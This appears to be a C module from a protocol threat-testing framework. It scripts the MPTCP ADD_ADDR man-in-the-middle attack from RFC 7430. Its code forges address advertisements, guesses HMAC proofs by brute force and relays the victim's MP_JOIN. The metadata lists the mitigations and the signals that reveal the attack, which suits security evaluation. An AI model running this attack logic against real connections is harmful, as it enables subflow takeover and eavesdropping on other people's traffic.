/* threats/res_1.c: T-RES-1, the ADD_ADDR attack: man in the middle of a subflow from off the path.
 */
#include <string.h>

#include "threats/record.h"

enum { ADDR_ID = 66, WRONG_PROOFS = 1024, AT_ONCE = 32 };

static bool can_seal(const struct plait_attack *a)
{
    return plait_knows_keys(a) || !plait_add_addr_is_proven(a);
}

static void send_add_addr(struct plait_attack *a, const struct plait_numbers *numbers,
                          const uint8_t proof[8])
{
    struct plait_segment segment = plait_forged(numbers, PLAIT_ACK);
    struct plait_add_addr *option = &plait_add_option(&segment, PLAIT_ADD_ADDR)->add_addr;
    /* With the port, so that the victim's MP_JOIN comes to the one that the relay expects. */
    *option = (struct plait_add_addr){.addr_id = ADDR_ID, .addr = plait_own_addr(a)};
    if (can_seal(a)) {
        plait_seal(a, option);
    } else {
        option->has_hmac = true;
        memcpy(option->hmac, proof, sizeof option->hmac);
    }
    plait_send(a, &segment);
}

static void draw_proof(const struct plait_attack *a, uint64_t n, uint8_t proof[8])
{
    uint64_t drawn = plait_own_draw(a, "ADD_ADDR proof", n);
    memcpy(proof, &drawn, 8);
}

static void try_numbers(struct plait_attack *a, const struct plait_numbers *numbers, void *argument)
{
    (void)argument;
    uint8_t proof[8];
    draw_proof(a, numbers->seq, proof);
    send_add_addr(a, numbers, proof);
}

static void guess_proofs(struct plait_attack *a, const struct plait_numbers *numbers)
{
    uint8_t proof[8];
    plait_step(a, "guesses the 64 bits of the ADD_ADDR's proof");
    plait_wrong_guesses(a, true);
    for (uint64_t n = 0; n < WRONG_PROOFS; n++) {
        draw_proof(a, n, proof);
        send_add_addr(a, numbers, proof);
        if (n % AT_ONCE == AT_ONCE - 1)
            plait_pause(a, PLAIT_MS);
    }
    plait_wrong_guesses(a, false);
}

void plait_invite_and_relay(struct plait_attack *a)
{
    plait_take_position(a);
    struct plait_numbers numbers =
        plait_get_numbers(a, plait_subflow_here(a), PLAIT_ACCEPT_IN_WINDOW, try_numbers, NULL);
    plait_step(a, "announces its own address in the server's name");
    if (!can_seal(a))
        guess_proofs(a, &numbers);
    uint8_t proof[8];
    draw_proof(a, WRONG_PROOFS, proof);
    send_add_addr(a, &numbers, proof);
    if (!plait_await(a, plait_is_join_syn_home, NULL, 2 * PLAIT_S)) {
        plait_refused(a, "the victim did not follow the ADD_ADDR");
        return;
    }
    plait_step(a, "relays the victim's MP_JOIN to the true peer");
    struct plait_place service = plait_service(a);
    plait_relay(a, &service);
    plait_pause(a, 2 * PLAIT_S);
}

/* Off the path, and by one who heard a later handshake: he has numbers, and in v0 needs nothing
 * else (RFC 7430 §2). */
#define CASE(where, path_count, load)                                                              \
    {                                                                                              \
        .form = "-", .position = where, .spoofing = true, .victim = PLAIT_CLIENT,                  \
        .workload = load, .paths = path_count,                                                     \
        .goals = PLAIT_GOAL_BIT(TAKEOVER) | PLAIT_GOAL_BIT(READ),                                  \
        .script = plait_invite_and_relay, .witnesses = PLAIT_INVITING_WITNESSES                    \
    }

static const struct plait_case cases[] = {
    CASE("OFF", 1, PLAIT_BULK),
    CASE("OFF", 1, PLAIT_TRICKLE),
    CASE("PE-J", 2, PLAIT_BULK),
};

const struct plait_threat plait_threat_res_1 = {
    .info =
        {
            .id = "T-RES-1",
            .title = "ADD_ADDR attack",
            .kind = "threat",
            .source = "RFC 7430 §2",
            .section = SECTION_RESIDUAL,
            .summary =
                "A forged ADD_ADDR makes the victim join the attacker's address, who relays the "
                "handshake and is man in the middle of a subflow.",
            .positions = PLAIT_LIST("OFF", "PE-J"),
            .goals = PLAIT_LIST("takeover", "read"),
            .mechanisms = PLAIT_LIST("v0", "v1"),
            .host_risk = "none",
            .stopped_by_text = "the HMAC of ADD_ADDR in v1 (RFC 8684 §3.4.1), M11, M12",
            .remains_text = "v0 against whoever knows numbers; whoever heard the keys; replay of "
                            "an old advertisement (T-ADD-2)",
            .seen_as = PLAIT_LIST("add-addr-mac", "contradiction", "control-elsewhere"),
            .wire_blind_text =
                "v0 advertises addresses without a proof, and whoever is let between the "
                "ends passes on proofs that are genuine",
        },
    PLAIT_CASES(cases),
};
